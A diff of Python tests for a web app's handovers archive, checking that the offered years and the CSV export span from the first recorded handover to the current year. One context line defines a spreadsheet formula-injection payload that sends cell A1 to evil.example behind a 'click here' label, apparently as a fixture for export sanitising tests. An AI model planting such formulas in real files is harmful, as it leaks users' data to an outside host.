@@ -165,9 +165,41 @@ def test_a_year_the_archive_cannot_serve_is_refused_naming_those_it_can(client, 
     assert response.status_code == 400 and response.mimetype == "text/html"
     assert "Content-Disposition" not in response.headers
     page = response.get_data(as_text=True)
-    assert "from 2000 to 2026" in page  # NOW is in 2026
+    assert "from 2026 to 2026" in page  # NOW is in 2026, and so is every handover of world
     served = client.get("/trace/handovers.csv?year=2026")
     assert served.status_code == 200 and served.mimetype == "text/csv"
+
+
+def _offered_years(page: str) -> list[int]:
+    select = re.search(r'<select name="year">(.*?)</select>', page, re.S).group(1)
+    return [int(y) for y in re.findall(r'<option value="(\d+)"', select)]
+
+
+def test_the_archive_offers_and_serves_every_year_with_handovers_and_no_other(client, auth, world):
+    """The page offered the last ten years while the CSV served 2000 to this year: a handover
+    of 2012 was in no year the page offered, and 2005 was served as an empty file. Now both
+    take the years from the first handover on record to this year."""
+    old = make_pack(world["plant"], owner=world["owner"], received_at=utc(2012, 5, 3, 2))
+    auth.login(world["admin"].email)
+    client.get("/lang/en")
+    assert _offered_years(client.get("/trace/").get_data(as_text=True)) == list(
+        range(2026, 2011, -1)
+    )
+    served = client.get("/trace/handovers.csv?year=2012")
+    rows = list(csv.DictReader(io.StringIO(served.get_data(as_text=True).lstrip("\ufeff"))))
+    assert served.status_code == 200 and [r["pack_code"] for r in rows] == [old.code]
+    refused = client.get("/trace/handovers.csv?year=2011")
+    assert refused.status_code == 400 and "Content-Disposition" not in refused.headers
+    assert "from 2012 to 2026" in refused.get_data(as_text=True)
+
+
+def test_without_any_handover_the_archive_offers_this_year_alone(client, auth, monkeypatch):
+    freeze_clock(monkeypatch, NOW)
+    admin = make_user(make_park(), role=Role.ADMIN)
+    auth.login(admin.email)
+    assert _offered_years(client.get("/trace/").get_data(as_text=True)) == [2026]
+    assert client.get("/trace/handovers.csv?year=2026").status_code == 200
+    assert client.get("/trace/handovers.csv?year=2025").status_code == 400
 
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
